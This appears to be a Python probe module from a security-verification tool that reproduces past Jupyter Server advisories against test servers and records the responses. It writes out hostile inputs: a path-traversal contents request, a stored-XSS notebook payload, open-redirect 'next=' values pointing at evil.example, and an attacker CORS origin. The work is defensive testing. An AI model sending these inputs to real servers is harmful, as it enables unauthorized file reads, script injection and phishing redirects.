"""What a remote client observes of the attacks of past Jupyter Server advisories (ADV-01..04, ADV-09).

Used by ``runbooks/advisories/jupyter-server.md``.  Each function sends the
advisory's request from the client machine, the way an attacker's page or a
confined user would, and returns what the server answered.
"""

from __future__ import annotations

import json
from urllib.parse import quote

from jsv.claims import Observation
from jsv.environments import JupyterServer, NetClient
from jsv.environments.command_line import curl_from_environment
from jsv.probes.login import cookie_request, form_login, register_jar, status_of
from jsv.redaction import register

TRUSTED_ORIGIN = "https://trusted.example.com"
ORIGIN_PATTERN = r"https://trusted\.example\.com"
ATTACKER_ORIGIN = TRUSTED_ORIGIN + ".evil.net"
ROOT_DIR = "/srv/work"
SIBLING_FILE = "/srv/workshop/secret.txt"
SHARED_NOTEBOOK = "shared-report.ipynb"
"""A notebook in the root that someone else wrote (ADV-09): its output carries a script."""
SCRIPT_MARK = "jsv-stored-script"
PASSWORD_FILE = "/home/alice/.jupyter/jupyter_server_config.json"
"""Where ``jupyter server password`` writes ``IdentityProvider.hashed_password``."""
"""A file in a directory next to the root whose name starts with the root's name."""


def server_setup() -> list[str]:
    """The configuration both sides of ADV-01/ADV-02 share: a pattern, a root, and hidden files allowed.

    ``allow_hidden``: with it off, jupyter_core 5.9's ``is_hidden`` raises for a path outside the
    root (a 500 on both releases), so the advisory's read is reachable only with hidden files allowed.
    """
    return [
        f"c.ServerApp.allow_origin_pat = r'{ORIGIN_PATTERN}'",
        f"c.ServerApp.root_dir = '{ROOT_DIR}'",
        "c.ContentsManager.allow_hidden = True",
    ]


def origin_echo(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-01: which origins the server grants CORS to, the trusted one and the attacker's."""
    answers, transcripts = {}, []
    for label, origin in (("trusted origin", TRUSTED_ORIGIN), ("attacker origin", ATTACKER_ORIGIN)):
        reply = client.http(
            target.url("/api/status"), "-H", f"Origin: {origin}", "-H", f"Authorization: token {target.token}"
        )
        answers[label] = reply.headers.get("access-control-allow-origin")
        transcripts.append(reply.transcript)
    return Observation(answers, "\n\n".join(transcripts))


def sibling_read(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-02: ``GET /api/contents/../workshop/secret.txt`` sent as is (no client-side normalisation)."""
    sibling = SIBLING_FILE.removeprefix("/srv/")
    reply = client.http(
        target.url(f"/api/contents/../{sibling}"),
        "--path-as-is",
        "-H",
        f"Authorization: token {target.token}",
    )
    return Observation(reply.status, reply.transcript)


def login_redirect(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-03: log in with the token and ``next=`` the attacker's origin; where the browser is sent."""
    next_url = quote(ATTACKER_ORIGIN + "/", safe="")
    base = target.url("").rstrip("/")
    ran = client.run(
        f"rm -f /tmp/jar; curl -sk -c /tmp/jar -o /dev/null '{base}/login'\n"
        "xsrf=$(awk '$6==\"_xsrf\" {print $7}' /tmp/jar)\n"
        "curl -sk -b /tmp/jar -c /tmp/jar -o /dev/null -w '%{http_code} %{redirect_url}\\n' "
        '--data-urlencode "_xsrf=$xsrf" '
        f"{curl_from_environment('JSV_PASSWORD', 'data-urlencode', 'password={}')} "
        f"'{base}/login?next={next_url}'",
        environment={"JSV_PASSWORD": target.token},
    )
    register_jar(client, "/tmp/jar")
    return Observation(ran.stdout.strip(), ran.transcript)


def register_password_hash(server: JupyterServer) -> None:
    """The salt and digest of the stored argon2 hash are as sensitive as the password: never published."""
    stored = server.run(f"cat {PASSWORD_FILE}", user="alice").stdout
    for part in json.loads(stored)["IdentityProvider"]["hashed_password"].split("$")[-2:]:
        register(part, "password-hash")


def set_password(server: JupyterServer, claim_id: str, password: str) -> str:
    """Run ``claim_id``'s shell fix (``jupyter server password``, ``password`` typed twice); restart."""
    changed = server.run_fix(claim_id, password, password)
    register_password_hash(server)
    server.restart()
    return changed.transcript + "\n# server restarted"


def session_after_password_change(
    client: NetClient, passwords: tuple[str, str], target: JupyterServer
) -> Observation:
    """ADV-04: log in with the first password, change it (SU-17's fix), restart; is the old cookie accepted?

    ``target`` already runs with the first password (set by :func:`set_password`).
    """
    first, second = passwords
    jar = f"/tmp/session-{target.alias}"
    login = form_login(client, target.url("").rstrip("/"), first, jar)
    before = cookie_request(client, target.url("/api/contents"), jar=jar)
    change = set_password(target, "SU-17", second)
    after = cookie_request(client, target.url("/api/contents"), jar=jar)
    answers = {"old session before": status_of(before), "old session after the change": status_of(after)}
    return Observation(answers, "\n\n".join([login.transcript, before.transcript, change, after.transcript]))


def notebook_with_script() -> str:
    """A notebook whose saved output is HTML with a script (any output may be): the stored XSS of ADV-09."""
    script = f"<script>/* {SCRIPT_MARK} */ fetch('/api/contents').then(r => r.text())</script>"
    output = {"output_type": "display_data", "data": {"text/html": [script]}, "metadata": {}}
    cell = {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "source": ["report()"],
        "outputs": [output],
    }
    notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell | {"id": "c1"}]}
    return json.dumps(notebook, indent=1) + "\n"


def nbconvert_sandbox(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-09: ``GET /nbconvert/html/<notebook>``: is the script served, and is the page sandboxed (CSP)?"""
    reply = client.http(
        target.url(f"/nbconvert/html/{SHARED_NOTEBOOK}"), "-H", f"Authorization: token {target.token}"
    )
    policy = reply.headers.get("content-security-policy", "")
    directives = [part.strip() for part in policy.split(";")]
    answers = {
        "status": reply.status,
        "script served": SCRIPT_MARK in reply.body,
        "sandbox": next((part for part in directives if part.startswith("sandbox")), None),
    }
    return Observation(answers, reply.transcript)


LOOKALIKE_NEXT = "///evil.example/"
"""GHSA-qh7q-6qm3-653w's ``next=``: three slashes, which a browser resolves to the host ``evil.example``."""
FAILING_KERNEL_REQUEST = '{"name": 5}'
"""A kernel start the server cannot handle (a number for the kernel name): an uncaught error, a 500."""


def lookalike_redirect(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-11: a logged-in user opens ``/login?next=///evil.example/``; the status and the Location sent."""
    reply = client.http(
        target.url(f"/login?next={quote(LOOKALIKE_NEXT, safe='/')}"),
        "-H",
        f"Authorization: token {target.token}",
    )
    return Observation(f"{reply.status} {reply.headers.get('location', '')}", reply.transcript)


def _log_lines_with(server: JupyterServer, token: str, since: int) -> list[str]:
    """The server's log lines written after ``since`` characters that hold ``token`` (shown redacted)."""
    return [line for line in server.logs_text()[since:].splitlines() if token in line]


def referer_token_logged(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-12: a failing request (500) whose Referer is a ``?token=`` page; is the token in the log?

    The request itself carries the token in the Authorization header, so only the Referer can put it
    into the log; the log's lines that hold it are the evidence (the token is redacted in every output).
    """
    since = len(target.logs_text())
    referer = target.url(f"/tree?token={target.token}")
    reply = client.http(
        target.url("/api/kernels"),
        "-X",
        "POST",
        "-H",
        f"Authorization: token {target.token}",
        "-H",
        "Content-Type: application/json",
        "-H",
        f"Referer: {referer}",
        "--data",
        FAILING_KERNEL_REQUEST,
    )
    lines = _log_lines_with(target, target.token, since)
    answers = {"status": reply.status, "token in the log": bool(lines)}
    shown = "\n".join(lines) or "(no log line holds the token)"
    return Observation(answers, f"{reply.transcript}\n\n# the server's log lines holding the token\n{shown}")


def url_token_logged(client: NetClient, target: JupyterServer) -> Observation:
    """ADV-13: does the server take its token in the URL, and does a 500 then write the token to the log?

    The failing request goes the first way the server accepts, as a client does: ``?token=`` in the URL
    (the links ``jupyter server list`` prints) where that authenticates, else the Authorization header.
    """
    header = ("-H", f"Authorization: token {target.token}")
    in_url = client.http(target.url(f"/api/status?token={target.token}"))
    in_header = client.http(target.url("/api/status"), *header)
    url = (
        target.url(f"/api/kernels?token={target.token}")
        if in_url.status == 200
        else target.url("/api/kernels")
    )
    auth = () if in_url.status == 200 else header
    since = len(target.logs_text())
    failing = client.http(
        url, "-X", "POST", *auth, "-H", "Content-Type: application/json", "--data", FAILING_KERNEL_REQUEST
    )
    lines = _log_lines_with(target, target.token, since)
    answers = {
        "token in the URL": in_url.status,
        "token in the header": in_header.status,
        "failing request": failing.status,
        "token in the log": bool(lines),
    }
    shown = "\n".join(lines) or "(no log line holds the token)"
    transcript = "\n\n".join([in_url.transcript, in_header.transcript, failing.transcript])
    return Observation(answers, f"{transcript}\n\n# the server's log lines holding the token\n{shown}")
